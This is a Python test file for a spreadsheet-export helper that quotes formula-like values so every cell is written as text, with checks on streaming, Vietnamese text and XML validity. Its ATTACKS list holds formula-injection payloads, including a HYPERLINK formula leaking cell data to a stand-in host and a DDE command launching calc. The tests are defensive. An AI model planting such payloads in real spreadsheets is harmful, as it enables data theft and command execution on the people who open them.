"""common.xlsx: every cell a string cell, formulas neutralised (issue #7, 1 and 2)."""

import io
import zipfile

import openpyxl
import pytest
from lxml import etree
from openpyxl import Workbook

from common.xlsx import (
    TextRows,
    append_row,
    safe_cell,
    set_cell,
    unquote_cell,
    workbook_bytes,
    write_only_workbook,
)

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Xem")',
    "=cmd|'/C calc'!A0",
    "=1+1@evil.vn",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_formula_like_value_gets_a_quote_in_front(value):
    assert safe_cell(value) == "'" + value
    assert unquote_cell(safe_cell(value)) == value


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("Nguyễn Văn An", "Nguyễn Văn An"),
        (1, "1"),
        (3.0, "3"),
        (None, ""),
        ("Nguyễn\x01 Văn\x1f An\x0b", "Nguyễn Văn An"),
        ("a=b", "a=b"),
        ("'=1", "'=1"),
    ],
)
def test_plain_values_are_text_and_illegal_xml_characters_dropped(value, text):
    assert safe_cell(value) == text


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(
            archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
        )


def test_normal_and_write_only_sheets_hold_only_string_cells():
    normal = Workbook()
    append_row(normal.active, [*ATTACKS, 42, "Nguyễn\x01"])
    set_cell(normal.active, row=2, column=1, value="=2+2")
    streaming = write_only_workbook()
    append_row(streaming.create_sheet("x"), [*ATTACKS, 42, "Nguyễn\x01"])

    for data in (workbook_bytes(normal), workbook_bytes(streaming)):
        assert "<f>" not in sheet_xml(data)
        workbook = openpyxl.load_workbook(io.BytesIO(data))
        cells = [c for row in workbook.worksheets[0].iter_rows() for c in row]
        filled = [c for c in cells if c.value is not None]
        assert {c.data_type for c in filled} == {"s"}
        assert [c.value for c in filled][: len(ATTACKS)] == ["'" + a for a in ATTACKS]
        assert "Nguyễn" in [c.value for c in filled]


def test_streamed_rows_are_text_cells_after_the_sheets_own_header():
    workbook = write_only_workbook()
    sheet = workbook.create_sheet("Đại biểu")
    sheet.freeze_panes = "A2"
    append_row(sheet, ["STT", "Họ và tên", "Cơ quan"])
    rows = TextRows(sheet)
    for attack in ATTACKS:
        rows.append([rows.count + 1, attack, "Sở Nội vụ"])
    rows.append([rows.count + 1, 'A & B <Ban> "Dân tộc"', "Nguyễn\x01 Văn"])
    rows.append([rows.count + 1, "  hai khoảng trắng  ", None])
    sheet.auto_filter.ref = f"A1:C{rows.count + 1}"

    data = workbook_bytes(workbook, [rows])

    # Every part of the package is well-formed XML, and no cell holds a formula.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith(".xml") or name.endswith(".rels"):
                etree.fromstring(archive.read(name))
    assert "<f>" not in sheet_xml(data)
    book = openpyxl.load_workbook(io.BytesIO(data))
    read = book["Đại biểu"]
    values = [[c.value for c in row] for row in read.iter_rows()]
    assert values[0] == ["STT", "Họ và tên", "Cơ quan"]
    assert [v[1] for v in values[1 : len(ATTACKS) + 1]] == ["'" + a for a in ATTACKS]
    assert values[-2] == [str(len(ATTACKS) + 1), 'A & B <Ban> "Dân tộc"', "Nguyễn Văn"]
    assert values[-1] == [str(len(ATTACKS) + 2), "  hai khoảng trắng  ", None]
    assert {c.data_type for row in read.iter_rows() for c in row if c.value} == {"s"}
    assert read.freeze_panes == "A2"
    assert read.auto_filter.ref == f"A1:C{len(ATTACKS) + 3}"


def test_streamed_rows_fill_several_sheets_and_an_empty_one():
    workbook = write_only_workbook()
    first, second, empty = (workbook.create_sheet(t) for t in ("a", "b", "c"))
    append_row(first, ["x"])
    streams = [TextRows(first), TextRows(second, first_row=1), TextRows(empty)]
    for number in range(2500):  # past the in-memory buffer's flush
        streams[0].append([f"a{number}"])
        streams[1].append([f"b{number}", number])

    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(workbook, streams)))
    a = [row[0].value for row in book["a"].iter_rows()]
    b = [[c.value for c in row] for row in book["b"].iter_rows()]
    assert a == ["x", *[f"a{n}" for n in range(2500)]]
    assert b[0] == ["b0", "0"] and b[-1] == ["b2499", "2499"] and len(b) == 2500
    assert list(book["c"].iter_rows()) == []


def test_streamed_rows_go_past_column_z():
    workbook = write_only_workbook()
    sheet = workbook.create_sheet("rộng")
    rows = TextRows(sheet, first_row=1)
    rows.append([f"c{n}" for n in range(1, 31)])
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes(workbook, [rows])))
    assert book["rộng"]["AD1"].value == "c30"
    assert [c.value for c in book["rộng"][1]] == [f"c{n}" for n in range(1, 31)]
